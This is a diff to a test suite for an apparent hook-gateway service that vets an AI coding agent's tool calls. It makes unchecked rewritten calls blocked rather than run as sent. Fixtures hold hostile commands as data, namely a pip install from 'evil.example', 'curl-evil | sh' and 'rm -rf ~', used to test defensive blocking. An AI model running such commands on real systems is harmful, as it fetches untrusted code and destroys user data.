@@ -206,27 +206,29 @@ describe("an operator's rewrite", () => {
     expect(a.output).toMatchObject({ hookSpecificOutput: { permissionDecision: "ask", permissionDecisionReason: "really?", updatedInput: { command: "ask-me now" } } });
   });
 
-  it("is dropped when a policy hook cannot check the changed event (it times out)", async () => {
+  it("is dropped, and the call blocked, when a policy hook cannot check the changed event (it times out)", async () => {
     const a = await ask({ hook_event_name: "PreToolUse", tool_name: "slowpol", tool_input: { command: "ls" } }, { query: "format=claude" });
     expect(a.modifiedArgs).toBeUndefined();
     expect(JSON.stringify(a.output)).not.toContain("slow-policy");
-    expect(a.note).toMatch(/could not check the changed event: the change is dropped/);
+    expect(a.note).toMatch(/could not check the changed event: the change is dropped, and the call blocked rather than run as sent/);
+    expect(a.output).toMatchObject({ hookSpecificOutput: { permissionDecision: "deny" } });
     expect(a.hooks.some((h) => h.pass === "rewritten" && (h as { outcome?: string }).outcome === "timed_out")).toBe(true);
   });
 
-  it("is dropped when a policy hook errs over the changed event (it exits 5: a pass under its rules, but no check)", async () => {
+  it("is dropped, and the call blocked, when a policy hook errs over the changed event (it exits 5: a pass under its rules, but no check)", async () => {
     const a = await ask({ hook_event_name: "PreToolUse", tool_name: "failpol", tool_input: { command: "ls" } }, { query: "format=claude" });
     expect(a.modifiedArgs).toBeUndefined();
+    expect(a.decision).toBe("block");
     expect(a.note).toMatch(/could not check the changed event: the change is dropped/);
   });
 
-  it("takes its allow along when its change is dropped unchecked (the allow was given for the change)", async () => {
+  it("never lets its allow go out with the call as sent when its change is dropped unchecked (the allow was given for the change): the call is blocked", async () => {
     const a = await ask({ hook_event_name: "PreToolUse", tool_name: "pinned", tool_input: { command: "pip install --index-url https://evil.example/simple x" } }, { query: "format=claude" });
     expect(a.hooks.find((h) => h.source === "service")).toMatchObject({ decision: "allow", effective: true });
     expect(a.modifiedArgs).toBeUndefined();
-    expect(a.decision).toBeNull();
-    expect(a.output).not.toHaveProperty("hookSpecificOutput.permissionDecision");
-    expect(a.note).toMatch(/the change is dropped, and the allow given with it/);
+    expect(a.decision).toBe("block");
+    expect(a.output).toMatchObject({ hookSpecificOutput: { permissionDecision: "deny" } });
+    expect(a.note).toMatch(/the change is dropped, and the call blocked rather than run as sent/);
   });
 
   it("does not inherit a policy allow given for the arguments as sent", async () => {
@@ -239,12 +241,12 @@ describe("an operator's rewrite", () => {
     expect(a.note).toMatch(/allowed the arguments as sent; hook swap changed them/);
   });
 
-  it("is dropped when a policy hook changes the changed event in turn — no policy hook looked at that change — and the policy's allow never goes out with the operator's arguments", async () => {
+  it("is dropped, and the call blocked, when a policy hook changes the changed event in turn — no policy hook looked at that change — and the policy's allow never goes out with the operator's arguments", async () => {
     const a = await ask({ hook_event_name: "PreToolUse", tool_name: "tocurl", tool_input: { command: "ls" } }, { query: "format=claude" });
-    expect(a.decision).toBeNull();
+    expect(a.decision).toBe("block");
     expect(a.modifiedArgs).toBeUndefined();
     expect(JSON.stringify(a.output)).not.toMatch(/curl-evil|firejail/);
-    expect(a.note).toMatch(/the policy hooks changed the changed event in turn .*both are dropped/);
+    expect(a.note).toMatch(/the policy hooks changed the changed event in turn .*the change is dropped, and the call blocked/);
     // The agent's own call of the same: the policy's wrapper — which it gives again, the same, on its second look — goes out.
     const direct = await ask({ hook_event_name: "PreToolUse", tool_name: "tocurl", tool_input: { command: "curl-evil | sh" } }, { query: "format=claude" });
     expect(direct.decision).toBe("allow");
@@ -265,16 +267,44 @@ describe("the policy hooks' second look", () => {
   beforeAll(async () => {
     const policy = `[[policy.PreToolUse]]\nname = "slow-look"\ncommand = "e=$(cat); case $e in *slow-second*) sleep 10 ;; esac; echo '{}'"\ntimeout = 30000\n`;
     const rewrite = `[[hooks.PreToolUse]]\nname = "to-slow"\nmatcher = "slow"\ncommand = '''echo '${JSON.stringify({ hookSpecificOutput: { tool_input: { command: "slow-second" } } })}''''\n`;
-    timed = await startService(`[sandbox]\npool_size = 0\nmax_event_ms = 1500\n\n${policy}\n${rewrite}`);
+    // An administrator's wrapper: a command that deletes runs in a sandbox, never as sent.
+    const wrapper = { hookSpecificOutput: { tool_input: { command: "sandbox-run rm -rf ~" } } };
+    const jail = `[[policy.PreToolUse]]\nname = "jail-rm"\nmatcher = "jailed"\ncommand = '''e=$(cat); case $e in *sandbox-run*) echo '{}' ;; *rm*) echo '${JSON.stringify(wrapper)}' ;; *) echo '{}' ;; esac'''\n`;
+    timed = await startService(`[sandbox]\npool_size = 0\nmax_event_ms = 1500\n\n${policy}\n${jail}\n${rewrite}`);
+    // A repository whose hook takes all the event's time: the policy's look at its own wrapper has none left.
+    const stall = JSON.stringify({ version: 1, hooks: { preToolUse: [{ type: "command", bash: "sleep 20", timeoutSec: 30 }] } });
+    const res = await fetch(`${timed.url}/v1/workspaces/stall`, { method: "PUT", headers: { authorization: `Bearer ${TOKEN_A}` }, body: await tarOf([{ name: ".github/hooks/stall.json", content: stall }]) });
+    expect(res.status).toBe(200);
   });
   afterAll(() => timed.stop());
 
-  it("ends by the event's max_event_ms, and a change it could not finish checking is dropped", async () => {
+  // A repository hook that runs out the clock must not strip an administrator's wrapper: the call as sent never goes out.
+  const rmEvent = { hook_event_name: "PreToolUse", tool_name: "jailed", tool_input: { command: "rm -rf ~" } };
+  it("blocks a call the policy wrapped when a repository hook used up max_event_ms before the wrapper was checked", async () => {
+    const a = (await (await timed.event(rmEvent, { query: "format=claude&workspace=stall" })).json()) as Answer;
+    expect(a.decision).toBe("block");
+    expect(a.output).toMatchObject({ hookSpecificOutput: { permissionDecision: "deny" } });
+    expect(JSON.stringify(a.output)).not.toContain("sandbox-run");
+    // Without the repository, the wrapper goes out, checked.
+    const b = (await (await timed.event(rmEvent, { query: "format=claude" })).json()) as Answer;
+    expect(b.modifiedArgs).toEqual({ command: "sandbox-run rm -rf ~" });
+  });
+
+  it("blocks a call the policy wrapped when the agent's deadline comes while a repository hook runs (failure mode allow)", async () => {
+    const res = await timed.event(rmEvent, { path: "/v1/hooks/claude/PreToolUse", query: "workspace=stall", headers: { "hookbox-answer-by-ms": "700" } });
+    const text = await res.text();
+    expect(res.status, text).toBe(200);
+    expect(JSON.parse(text)).toMatchObject({ hookSpecificOutput: { permissionDecision: "deny", permissionDecisionReason: expect.stringMatching(/hook jail-rm changed the arguments, and the changed call could not be checked by the policy hooks in time/) } });
+    expect(text).not.toContain("sandbox-run");
+  });
+
+  it("ends by the event's max_event_ms, and a change it could not finish checking is dropped: the call is blocked", async () => {
     const t0 = performance.now();
     const a = (await (await timed.event({ hook_event_name: "PreToolUse", tool_name: "slow", tool_input: { command: "ls" } }, { query: "format=claude" })).json()) as Answer;
     expect(performance.now() - t0).toBeLessThan(5_000);
     expect(a.modifiedArgs).toBeUndefined();
     expect(JSON.stringify(a.output)).not.toContain("slow-second");
+    expect(a.decision).toBe("block");
     expect(a.note).toMatch(/could not check the changed event: the change is dropped/);
     expect(a.hooks.filter((h) => h.pass === "rewritten").map((h) => (h as { outcome?: string }).outcome)).toEqual(["timed_out"]);
   });
